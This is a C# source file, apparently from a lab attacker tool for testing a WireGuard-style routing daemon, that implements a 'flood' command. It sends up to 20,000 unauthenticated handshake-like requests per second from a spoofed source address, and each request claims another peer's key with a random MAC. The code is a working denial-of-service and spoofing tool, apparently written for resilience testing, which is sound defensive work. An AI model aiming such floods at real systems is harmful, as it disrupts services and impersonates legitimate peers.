using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using WgRouted.Engine.Probe;

namespace WgRouted.Lab.Attacker;

/// <summary>
/// flood: --rate requests a second for --seconds, each claiming --sender's key with a random MAC, from a spoofed
/// source. Paced by the millisecond: whatever is due is sent, then a 1 ms sleep.
/// </summary>
internal static class Flood
{
    public static int Run(Arguments a)
    {
        var to = a.Endpoint("to");
        var from = a.Address("from");
        var sender = a.Key("sender").ToBytes();
        var rate = a.Number("rate", 1, 20_000);
        var seconds = a.Number("seconds", 1, 30);
        using var socket = Senders.Bind(new IPEndPoint(from, 0));
        socket.Connect(new IPEndPoint(to.Address, to.Port));
        var packet = new byte[ProbeCodec.RequestSize];
        var total = rate * seconds;
        var first = (ulong)DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
        long sent = 0, errors = 0;
        var clock = Stopwatch.StartNew();
        var limit = TimeSpan.FromSeconds(seconds + 2);
        while (sent + errors < total && clock.Elapsed < limit)
        {
            var due = Math.Min(total, (long)(clock.Elapsed.TotalSeconds * rate));
            var now = DateTimeOffset.UtcNow;
            while (sent + errors < due)
            {
                Unauthenticated.WriteRequest(packet, sender, first + (ulong)(sent + errors), now);
                try
                {
                    socket.Send(packet);
                    sent++;
                }
                catch (SocketException)
                {
                    errors++;
                }
            }
            Thread.Sleep(1);
        }
        var elapsed = clock.Elapsed.TotalSeconds;
        Console.WriteLine(FormattableString.Invariant($"sent={sent} send_errors={errors} seconds={elapsed:F2} rate={sent / elapsed:F0}"));
        return 0;
    }
}
